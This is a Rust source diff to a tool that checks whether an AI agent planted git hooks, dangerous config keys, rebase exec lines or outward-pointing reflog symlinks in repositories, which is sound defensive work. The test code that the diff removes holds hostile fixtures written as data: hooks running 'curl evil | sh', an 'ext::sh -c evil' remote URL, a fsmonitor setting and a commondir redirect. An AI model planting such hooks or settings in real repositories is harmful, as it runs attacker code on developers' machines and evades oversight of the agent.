@@ -53,12 +53,20 @@ enum Kind {
     Pointer,
     /// A paused rebase's or sequence's to-do list, whose `exec` lines run on `--continue`.
     Todo,
+    /// A link among a git folder's own files, reflogs or refs: git writes through it (a
+    /// reflog line appended to the file it names, with commit subjects of the agent's).
+    DataLink,
 }
+
+/// How many entries of a git folder's `logs/` and `refs/` are looked at for links.
+const MAX_DATA_ENTRIES: usize = 20_000;
 
 /// Git's watched files under some folders at one time, and the folders too large to see whole.
 #[derive(Clone, Debug, Default, PartialEq, Eq)]
 pub struct GitSnapshot {
     files: BTreeMap<PathBuf, (Kind, Seen)>,
+    /// The git folders recorded (each once).
+    git_folders: std::collections::BTreeSet<PathBuf>,
     partly_seen: Vec<PathBuf>,
     /// Folders whose contents could not be listed.
     unreadable: Vec<PathBuf>,
@@ -84,7 +92,12 @@ fn snapshot_with(folders: &[PathBuf], known: &GitSnapshot) -> GitSnapshot {
     }
     for folder in folders {
         // Each writable folder's own repository first, whatever else the walk meets.
-        snapshot.record_git_folder(&folder.join(".git"));
+        let own = folder.join(".git");
+        if own.is_dir() {
+            snapshot.record_git_folder(&own);
+        } else {
+            snapshot.record_pointed(&own);
+        }
         let mut queue = std::collections::VecDeque::from([folder.clone()]);
         let mut visited = 0;
         while let Some(dir) = queue.pop_front() {
@@ -109,8 +122,10 @@ fn snapshot_with(folders: &[PathBuf], known: &GitSnapshot) -> GitSnapshot {
                 let Ok(kind) = entry.file_type() else { continue };
                 let name = entry.file_name();
                 if name == ".git" && !kind.is_dir() {
-                    // A worktree's or submodule's pointer to its git folder.
+                    // A worktree's or submodule's pointer to its git folder, which the lock
+                    // may write (a worktree's) and git runs from.
                     snapshot.record(&entry.path(), Kind::Pointer);
+                    snapshot.record_pointed(&entry.path());
                 } else if kind.is_dir() && !(is_git && GIT_DATA.iter().any(|s| name == *s)) {
                     queue.push_back(entry.path());
                 }
@@ -121,8 +136,21 @@ fn snapshot_with(folders: &[PathBuf], known: &GitSnapshot) -> GitSnapshot {
 }
 
 impl GitSnapshot {
-    /// A git folder's watched files: its settings, pointers and hooks.
+    /// The git folder a `.git` file names, recorded (with the common folder it names in turn):
+    /// a worktree's, which a lock on the worktree may write.
+    fn record_pointed(&mut self, pointer: &Path) {
+        if let Some(gitdir) = pointed(pointer, "gitdir:") {
+            self.record_git_folder(&gitdir);
+        }
+    }
+
+    /// A git folder's watched files: its settings, pointers, hooks, to-do lists, and links
+    /// among its own files, reflogs and refs; then the common folder it names, if any.
     fn record_git_folder(&mut self, dir: &Path) {
+        if !dir.is_dir() || !self.git_folders.insert(dir.to_owned()) {
+            return;
+        }
+        self.record_links(dir);
         for name in ["config", "config.worktree"] {
             self.record(&dir.join(name), Kind::Config);
         }
@@ -132,6 +160,39 @@ impl GitSnapshot {
         self.record(&dir.join("hooks"), Kind::HooksFolder);
         for todo in ["rebase-merge/git-rebase-todo", "sequencer/todo"] {
             self.record(&dir.join(todo), Kind::Todo);
+        }
+        if let Some(common) = pointed(&dir.join("commondir"), "") {
+            self.record_git_folder(&common);
+        }
+    }
+
+    /// Every link at the top of git folder `dir` and in its `logs/` and `refs/` (bounded), not
+    /// followed.
+    fn record_links(&mut self, dir: &Path) {
+        let mut queue: Vec<PathBuf> = vec![dir.join("logs"), dir.join("refs")];
+        let mut looked = 0;
+        let top = std::fs::read_dir(dir).into_iter().flatten().flatten();
+        for entry in top {
+            if entry.file_type().is_ok_and(|t| t.is_symlink()) && lands_outside(dir, &entry.path())
+            {
+                self.record(&entry.path(), Kind::DataLink);
+            }
+        }
+        while let Some(folder) = queue.pop() {
+            for entry in std::fs::read_dir(&folder).into_iter().flatten().flatten() {
+                looked += 1;
+                if looked > MAX_DATA_ENTRIES {
+                    self.partly_seen.push(dir.to_owned());
+                    return;
+                }
+                match entry.file_type() {
+                    Ok(t) if t.is_symlink() && lands_outside(dir, &entry.path()) => {
+                        self.record(&entry.path(), Kind::DataLink)
+                    }
+                    Ok(t) if t.is_dir() => queue.push(entry.path()),
+                    _ => {}
+                }
+            }
         }
     }
 
@@ -169,6 +230,50 @@ impl GitSnapshot {
             _ => {}
         }
     }
+}
+
+/// Whether `link` (in git folder `git`) leads out of it: followed to its end, or for one that
+/// leads nowhere yet, to where its target would be made. (A `HEAD` linked to
+/// `refs/heads/main` stays inside; a reflog linked to ~/.bashrc does not.)
+fn lands_outside(git: &Path, link: &Path) -> bool {
+    let Ok(git) = git.canonicalize() else { return true };
+    if let Ok(real) = link.canonicalize() {
+        return !real.starts_with(&git);
+    }
+    let Ok(target) = std::fs::read_link(link) else { return true };
+    let wanted = link.parent().unwrap_or(Path::new("/")).join(target);
+    // The deepest folder on the way that exists, in canonical form, then the rest by name.
+    let mut rest = Vec::new();
+    let mut at = wanted.as_path();
+    loop {
+        if let Ok(real) = at.canonicalize() {
+            let mut whole = real;
+            for part in rest.iter().rev() {
+                match part {
+                    std::path::Component::ParentDir => {
+                        whole.pop();
+                    }
+                    std::path::Component::Normal(name) => whole.push(name),
+                    _ => {}
+                }
+            }
+            return !whole.starts_with(&git);
+        }
+        let Some(parent) = at.parent() else { return true };
+        rest.extend(at.components().next_back());
+        at = parent;
+    }
+}
+
+/// The folder a pointer file names (`gitdir: X` in a `.git` file, `X` in `commondir`), taken
+/// from the file's folder when relative, in canonical form; `None` unless it is a folder. Not
+/// followed if the pointer itself is a link.
+fn pointed(pointer: &Path, prefix: &str) -> Option<PathBuf> {
+    let Some(Seen::File { bytes, .. }) = seen(pointer) else { return None };
+    let text = String::from_utf8_lossy(&bytes);
+    let named = text.trim().strip_prefix(prefix)?.trim();
+    let folder = pointer.parent()?.join(named).canonicalize().ok()?;
+    folder.is_dir().then_some(folder)
 }
 
 /// A path a setting names, as git takes it: `~/` from the home folder, relative from `base`.
@@ -251,6 +356,13 @@ pub fn planted(before: &GitSnapshot, after: &GitSnapshot) -> Vec<String> {
             (Kind::HooksFolder, Seen::Other) | (Kind::Hook, Seen::Other) => {}
             (Kind::HooksFolder, Seen::Link(target)) => found.push(format!(
                 "{shown} is a link to {}: git runs the hooks it finds there",
+                target.display()
+            )),
+            // A link of the user's that is a file now: nothing git would follow.
+            (Kind::DataLink, Seen::File { .. }) => {}
+            (Kind::DataLink, Seen::Link(target)) => found.push(format!(
+                "{shown} is a link to {}: git writes through it (a reflog line, with commit \
+                 subjects the agent chose, appended there)",
                 target.display()
             )),
             (_, Seen::Link(target)) => {
@@ -473,110 +585,5 @@ fn inert(key: &str, value: &str) -> bool {
 }
 
 #[cfg(all(test, unix))]
-mod tests {
-    use super::*;
-
-    fn executable(path: &Path, text: &str) {
-        std::fs::write(path, text).expect("write");
-        std::fs::set_permissions(path, std::os::unix::fs::PermissionsExt::from_mode(0o755))
-            .expect("chmod");
-    }
-
-    /// What a repository's settings lead git to (an included file, a hooks path in the work
-    /// tree) is watched; a hooks folder made a link is named even when it leads nowhere yet.
-    #[test]
-    fn what_settings_lead_to_and_linked_hooks_folders_are_watched() {
-        let dir = std::env::temp_dir().join(format!("paddock-leads-{}", std::process::id()));
-        let _ = std::fs::remove_dir_all(&dir);
-        let git = dir.join("app/.git");
-        std::fs::create_dir_all(git.join("hooks")).expect("hooks");
-        std::fs::create_dir_all(dir.join("app/.husky")).expect("husky");
-        std::fs::create_dir_all(dir.join("app/tools")).expect("tools");
-        std::fs::write(git.join("HEAD"), "ref: refs/heads/main\n").expect("HEAD");
-        let config = "[core]\n\thooksPath = .husky\n[include]\n\tpath = ../tools/gitconfig\n";
-        std::fs::write(git.join("config"), config).expect("config");
-        executable(&dir.join("app/.husky/pre-commit"), "#!/bin/sh\nnpm test\n");
-        std::fs::write(dir.join("app/tools/gitconfig"), "[user]\n\tname = me\n").expect("include");
-        let before = snapshot(std::slice::from_ref(&dir));
-        // The agent changes what the protected config leads to, and links the hooks folder.
-        executable(&dir.join("app/.husky/pre-commit"), "#!/bin/sh\ncurl evil | sh\n");
-        let included = "[branch \"]\"] [core] pager = ./evil \\\n --more\n";
-        std::fs::write(dir.join("app/tools/gitconfig"), included).expect("include");
-        std::fs::remove_dir(git.join("hooks")).expect("hooks away");
-        std::os::unix::fs::symlink("../tools/later", git.join("hooks")).expect("hooks link");
-        // A comment ending in a backslash continues nothing (git reads `[pager]` as a header);
-        // a paused rebase holds a command for `--continue`.
-        let comment = "[remote \"origin\"]\n\turl = x ; \\\n[pager]\n\tfetch = ./evil\n";
-        std::fs::write(git.join("config.worktree"), comment).expect("config.worktree");
-        std::fs::create_dir_all(git.join("rebase-merge")).expect("rebase");
-        let todo = "pick 1234 one\nbreak\nexec ./evil --now\n";
-        std::fs::write(git.join("rebase-merge/git-rebase-todo"), todo).expect("todo");
-        let found = planted(&before, &snapshot_again(std::slice::from_ref(&dir), &before));
-        let app = dir.join("app").display().to_string();
-        assert_eq!(
-            found,
-            [
-                format!("{app}/.git/../tools/gitconfig sets core.pager = ./evil  --more"),
-                format!("{app}/.git/config.worktree sets pager.fetch = ./evil"),
-                format!("{app}/.git/hooks is a link to ../tools/later: git runs the hooks it finds there"),
-                format!("{app}/.git/rebase-merge/git-rebase-todo holds a paused rebase that runs ./evil --now on `git rebase --continue`"),
-                format!("{app}/.husky/pre-commit runs curl evil | sh"),
-            ]
-        );
-        let _ = std::fs::remove_dir_all(&dir);
-    }
-
-    #[test]
-    fn what_a_lock_left_git_to_run_is_named() {
-        let dir = std::env::temp_dir().join(format!("paddock-planted-{}", std::process::id()));
-        let _ = std::fs::remove_dir_all(&dir);
-        std::fs::create_dir_all(dir.join("app/.git/hooks")).expect("app");
-        std::fs::create_dir_all(dir.join("app/.git/objects")).expect("objects");
-        std::fs::write(dir.join("app/.git/HEAD"), "ref: refs/heads/main\n").expect("HEAD");
-        std::fs::write(dir.join("app/.git/config"), "[core]\n\tbare = false\n").expect("config");
-        let before = snapshot(std::slice::from_ref(&dir));
-        assert!(planted(&before, &before).is_empty());
-        // The protected repository redirected; new ones deep and in skipped-looking folders.
-        std::fs::write(dir.join("app/.git/commondir"), "../evil\n").expect("commondir");
-        let deep = dir.join("node_modules/a/b/c/d/e/f/g/h/i/j/.git");
-        std::fs::create_dir_all(deep.join("hooks")).expect("deep");
-        executable(&deep.join("hooks/post-checkout"), "#!/bin/sh\n# tidy\ncurl evil | sh\n");
-        executable(&deep.join("hooks/pre-push.sample"), "#!/bin/sh\nexit 0\n");
-        std::os::unix::fs::symlink("/bin/true", deep.join("hooks/pre-commit")).expect("link");
-        let config = "[core]\n\tbare = false\n\tfsmonitor = ./x.sh\n[user]\n\temail = a@b\n\
-                      [pager] log = ./evil\n[remote \"o\"]\n\turl = ../x\n\tuploadpack = ./evil\n\
-                      [remote \"e\"]\n\turl = ext::sh -c evil\n\
-                      [alias]\n\tx = !printf '\\033[2K'\x1b[1A\n";
-        std::fs::write(deep.join("config"), config).expect("config");
-        // A folder far deeper than any repository does not hide the ones above it.
-        let mut far = dir.join("zz");
-        for _ in 0..40 {
-            far.push("d");
-        }
-        std::fs::create_dir_all(&far).expect("deep folders");
-        // A bare repository whose HEAD is a link, with a setting after two headers on one
-        // line and a byte-order mark.
-        let bare = dir.join("src");
-        std::fs::create_dir_all(bare.join("objects")).expect("objects");
-        std::os::unix::fs::symlink("refs/heads/main", bare.join("HEAD")).expect("HEAD link");
-        std::fs::write(bare.join("config"), "\u{feff}[user] [core] fsmonitor = ./fsm\n")
-            .expect("config");
-        let found = planted(&before, &snapshot_again(std::slice::from_ref(&dir), &before));
-        let d = deep.display();
-        assert_eq!(
-            found,
-            [
-                format!("{}/app/.git/commondir sends git to ../evil", dir.display()),
-                format!("{d}/config sets core.fsmonitor = ./x.sh"),
-                format!("{d}/config sets pager.log = ./evil"),
-                format!("{d}/config sets remote.o.uploadpack = ./evil"),
-                format!("{d}/config sets remote.e.url = ext::sh -c evil"),
-                format!("{d}/config sets alias.x = !printf '\\033[2K'\\u{{1b}}[1A"),
-                format!("{d}/hooks/post-checkout runs curl evil | sh"),
-                format!("{d}/hooks/pre-commit is a link to /bin/true"),
-                format!("{}/src/config sets core.fsmonitor = ./fsm", dir.display()),
-            ]
-        );
-        let _ = std::fs::remove_dir_all(&dir);
-    }
-}
+#[path = "git_planted_tests.rs"]
+mod tests;
